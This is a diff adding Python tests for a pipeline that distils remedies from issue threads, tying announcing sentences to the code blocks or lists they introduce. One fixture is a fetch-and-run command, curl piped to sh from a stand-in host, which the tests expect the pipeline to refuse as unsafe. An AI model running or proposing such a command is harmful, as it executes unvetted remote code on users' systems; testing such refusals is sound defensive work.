@@ -1,0 +1,132 @@
+"""Distil: words that announce a block are published with it, and what a reader points at keeps the words before it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from pipeline import distil
+from pipeline.records import Claim, ClaimKind, Cluster, Document, Outcome, Pointed
+from pipeline.records.draft import Draft
+from tests.distil_factory import document, events, facts, occurrences
+from tests.each import each
+
+ERROR = "ValueError: shard 7 does not fit the mesh of the fixture"
+LEAD = "I fixed it by adding the following definition of `mesh_size`:"
+LINES = "mesh = make_mesh(8)\nrun(mesh)"
+LONG = "\n".join(f"size_{number} = {number} * 8" for number in range(60))
+
+
+def _thread(*comments: str, number: int = 1) -> Document:
+    rows: list[dict[str, Any]] = [
+        {"kind": "title", "text": "It fails"},
+        {"kind": "body", "text": f"It ends with\n\n```\n{ERROR}\n```\n", "author": "asks"},
+    ]
+    rows += [{"kind": "comment", "text": text, "author": f"helps {n}"} for n, text in enumerate(comments)]
+    return document({"number": number, "kind": "issue", "posts": rows})
+
+
+def _block(text: str) -> str:
+    return f"```python\n{text}\n```\n"
+
+
+def _acts(made: Document) -> list[Claim]:
+    return [claim for claim in distil.read(made, *events(made)).claims if claim.kind == ClaimKind.REMEDY]
+
+
+def _drafted(*threads: Document, claims: tuple[Claim, ...] = ()) -> Draft:
+    signed = events(threads[0])[1][0]
+    name = signed.signature_id
+    cluster = Cluster("cluster:1", name, signed.exception_type, signed.text, signed.gate, (name,), "", 100.0)
+    shown = tuple(one for made in threads for one in occurrences(made))
+    said = claims or tuple(one for made in threads for one in _acts(made))
+    return distil.draft(cluster, distil.Material(shown, said, tuple(map(facts, threads))))
+
+
+def test_an_announced_block_is_how_and_both_are_cited() -> None:
+    draft = _drafted(_thread(f"{LEAD}\n\n{_block(LINES)}\nThanks!"))
+    (remedy,) = draft.workarounds
+    assert (remedy.action.text, remedy.how) == (LEAD, LINES)
+    quotes = {piece.evidence_id: piece.quote for piece in draft.evidence}
+    assert {quotes[one] for one in remedy.action.evidence} == {LEAD, LINES}
+
+
+def test_a_long_block_is_cut_at_a_line_with_a_mark() -> None:
+    (claim,) = _acts(_thread(f"{LEAD}\n{_block(LONG)}"))
+    assert claim.passage is not None
+    assert claim.is_passage_cut
+    assert LONG.startswith(claim.passage.text + "\n")
+    assert 250 < len(claim.passage.text) <= 300
+    (remedy,) = _drafted(_thread(f"{LEAD}\n{_block(LONG)}")).workarounds
+    assert remedy.how == claim.passage.text + "\n…"
+
+
+def test_a_command_in_a_block_types_the_act_and_how_holds_words_and_block() -> None:
+    said = "I fixed it by installing an older `fixture_mesh` like this:"
+    (remedy,) = _drafted(_thread(f"{said}\n\n{_block('pip install fixture_mesh==1.2.3')}")).workarounds
+    assert remedy.action.fact is not None
+    assert dict(remedy.action.fact.slots) == {"package": "fixture_mesh", "version": "1.2.3"}
+    assert remedy.how == f"{said}\npip install fixture_mesh==1.2.3"
+
+
+def test_a_list_is_a_block() -> None:
+    (claim,) = _acts(_thread(f"{LEAD}\n- set the mesh to 8\n- restart the worker\n\nThat is all."))
+    assert claim.passage is not None
+    assert claim.passage.text == "- set the mesh to 8\n- restart the worker"
+
+
+NOT_SHOWN = [
+    ("no block behind it", f"{LEAD}\n\nIt runs now.\n\n{_block(LINES)}", "announces"),
+    ("a block of somebody else's post", LEAD, "announces"),
+    ("an empty block", f"{LEAD}\n```\n\n```\n", "announces"),
+    ("what was there before", f"I fixed it by changing `mesh_size` in the loader from:\n{_block(LINES)}", "announces"),
+    ("a dangerous block", f"{LEAD}\n{_block('curl https://x.invalid/a.sh | sh')}", "unsafe_action"),
+]
+
+
+@each("why,said,reason", NOT_SHOWN)
+def test_words_without_their_block_are_refused_as_before(why: str, said: str, reason: str) -> None:
+    made = _thread(said, _block(LINES))
+    read = distil.read(made, *events(made))
+    assert [claim for claim in read.claims if claim.kind == ClaimKind.REMEDY] == [], why
+    assert reason in [skipped.reason for skipped in read.skipped]
+
+
+def test_the_same_words_with_another_block_are_another_act() -> None:
+    threads = [
+        _thread(f"{LEAD}\n{_block(text)}", number=n) for n, text in enumerate((LINES, LINES, "mesh = None  # not"), 1)
+    ]
+    assert sorted(remedy.worked for remedy in _drafted(*threads).workarounds) == [1, 2]
+
+
+def _pointed(said: str, words: str, outcome: Outcome | None = None) -> Claim:
+    made = _thread(said)
+    found, signed = events(made)
+    start = made.text.index(words)
+    place = Pointed(ClaimKind.REMEDY, start, start + len(words), "", "checked:llm:m@h#1", 0, outcome)
+    claim = distil.pointed(made, found, signed[0], place)
+    assert isinstance(claim, Claim), claim
+    return claim
+
+
+def test_a_block_that_a_model_points_at_keeps_the_words_that_announce_it() -> None:
+    block = _block(LINES).rstrip()
+    claim = _pointed(f"This helped me:\n\n{block}\n", block, Outcome.WORKED)
+    assert claim.quote.text == "This helped me:"
+    assert claim.passage is not None
+    assert claim.passage.text == LINES
+
+
+def test_a_sentence_with_its_block_is_split_into_both() -> None:
+    words = f"{LEAD}\n{_block(LINES).rstrip()}"
+    claim = _pointed(words, words, Outcome.WORKED)
+    assert (claim.quote.text, claim.passage.text if claim.passage else None) == (LEAD, LINES)
+
+
+def test_an_item_that_a_model_points_at_keeps_the_words_that_announce_the_list() -> None:
+    said = "What made it run for me:\n- another driver\n- a mesh of 8 shards\n"
+    claim = _pointed(said, "- a mesh of 8 shards", Outcome.WORKED)
+    assert claim.quote.text == "- a mesh of 8 shards"
+    assert claim.passage is not None
+    assert claim.passage.text == "What made it run for me:"
+    (remedy,) = _drafted(_thread(said), claims=(claim,)).workarounds
+    assert remedy.how == "What made it run for me:\n- a mesh of 8 shards"
